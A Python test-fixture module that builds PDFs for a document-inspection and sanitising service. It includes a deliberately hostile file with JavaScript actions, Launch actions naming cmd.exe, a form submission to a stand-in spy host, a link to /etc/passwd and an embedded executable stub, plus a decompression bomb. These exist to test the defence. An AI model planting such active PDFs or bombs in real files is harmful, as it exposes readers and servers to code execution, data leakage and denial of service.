"""Files of evidence made for tests: sound ones of every geometry, and hostile ones."""

from __future__ import annotations

from collections.abc import Sequence
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

A4 = (0, 0, 595.276, 841.89)


def font(pdf: pikepdf.Pdf) -> Any:
    """Helvetica, which readers have."""
    return pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))


def add_page(
    pdf: pikepdf.Pdf,
    text: str = "",
    media: Sequence[float] = A4,
    crop: Sequence[float] | None = None,
    rotate: int = 0,
    content: bytes = b"",
    unit: float = 1,
) -> Any:
    """A page with a line of text in its middle, or with the given operators; its page object."""
    middle = ((media[0] + media[2]) / 2, (media[1] + media[3]) / 2)
    drawn = content or f"BT /F 12 Tf {middle[0]:.2f} {middle[1]:.2f} Td ({text}) Tj ET".encode()
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array(media),
        Resources=Dictionary(Font=Dictionary(F=font(pdf))),
        Contents=pdf.make_indirect(Stream(pdf, drawn)),
    )
    if crop:
        page.CropBox = Array(crop)
    if rotate:
        page.Rotate = rotate
    if unit != 1:
        page.UserUnit = unit
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    return pdf.pages[-1].obj


def pdf_of(*texts: str, **geometry: Any) -> bytes:
    """A PDF with one page per text."""
    pdf = pikepdf.new()
    for text in texts:
        add_page(pdf, text, **geometry)
    return written(pdf)


def written(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    """The bytes of a PDF."""
    out = BytesIO()
    pdf.save(out, **({"deterministic_id": True} if "encryption" not in options else {}), **options)
    return out.getvalue()


def active_pdf() -> bytes:
    """Everything that a PDF can do to its reader, in one file."""
    pdf = pikepdf.new()
    page = add_page(pdf, "facture")
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("cmd.exe")))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
    )
    pdf.attachments["secret.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")
    page.AA = Dictionary(O=script, C=launch)
    page.PieceInfo = Dictionary(Spy=Dictionary(Private=String("geheim")))
    page.Metadata = pdf.make_indirect(Stream(pdf, b"<x/>"))
    actions = [
        launch,
        Dictionary(S=Name.SubmitForm, F=String("https://spy.example/")),
        Dictionary(S=Name.ImportData, F=String("a.fdf")),
        Dictionary(S=Name.GoToR, F=String("//server/share"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("secret.exe"))),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.URI, URI=String("https://tracker.example/pixel")),
        Dictionary(S=Name.Named, N=Name.Print),
        Dictionary(S=Name.Rendition, JS=String("app.alert(2)")),
    ]
    page.Annots = Array(
        [
            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action))
            for action in actions
        ]
    )
    for subtype in ("/RichMedia", "/Screen", "/Movie", "/Sound", "/3D", "/FileAttachment"):
        page.Annots.append(pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]))))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("montant"), V=String("1"), Rect=Array([100, 100, 200, 120]),
            AA=Dictionary(K=script),
        )
    )  # fmt: skip
    page.Annots.append(field)
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=pdf.make_indirect(Stream(pdf, b"<xdp/>")), CO=Array([field]), SigFlags=3
    )
    form = pdf.make_indirect(
        Stream(
            pdf, b"0 0 m", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]),
            Ref=Dictionary(F=String("other.pdf"), Page=0), OPI=Dictionary({"/1.3": Dictionary(F=String("x.tif"))}),
            AF=Array([]), PieceInfo=Dictionary(Spy=Dictionary()),
        )
    )  # fmt: skip
    page.Resources.XObject = Dictionary(X=form)
    pdf.docinfo["/Author"] = "Le débiteur"
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = ["Le débiteur"]
    return written(pdf)


def bomb() -> bytes:
    """A page whose content is a gigabyte behind two filters, two kilobytes on disk."""
    import zlib

    once = zlib.compressobj(9)
    flat = b"".join(once.compress(b"\0" * 2**20) for _ in range(1024)) + once.flush()
    pdf = pikepdf.new()
    page = add_page(pdf, "x")
    page.Contents = pdf.make_indirect(Stream(pdf, zlib.compress(flat, 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])))
    return written(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def many_pages(count: int) -> bytes:
    """Empty pages, small on disk."""
    pdf = pikepdf.new()
    pages = [pdf.make_indirect(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 200, 200]))) for _ in range(count)]
    for page in pages:
        page.Parent = pdf.Root.Pages
    pdf.Root.Pages.Kids, pdf.Root.Pages.Count = Array(pages), count
    return written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def examined(data: bytes, name: str = "piece.pdf", **options: Any) -> Any:
    """What the inspection job returns for a file."""
    from dossier.pdf.examine import examine

    return examine({"name": name, "path": f"pieces/{name}", "others": [], **options}, {"file": data})


def clean_of(data: bytes, name: str = "piece.pdf", **options: Any) -> bytes:
    """The harmless copy of a file that must have one."""
    result = examined(data, name, **options)
    assert "clean" in result.files, result.problems
    return result.files["clean"]


def piece_part(number: int, name: str, **more: Any) -> dict[str, Any]:
    """The row of a piece in the options of `bind`."""
    row = {"kind": "piece", "title": f"Pièce n° {number} — Facture", "input": name, "number": number}
    return {**row, "label": f"Pièce n°\u00a0{number}", "corners": [], **more}


def bind_options(parts: Sequence[dict[str, Any]], **more: Any) -> dict[str, Any]:
    """The options of `bind`."""
    common = {"title": "Pièces", "parties": "Atelier Lenoir c/ Sud Béton", "created": "2026-11-21"}
    return {**common, "folio": True, "file": "bundle.pdf", "parts": list(parts), **more}
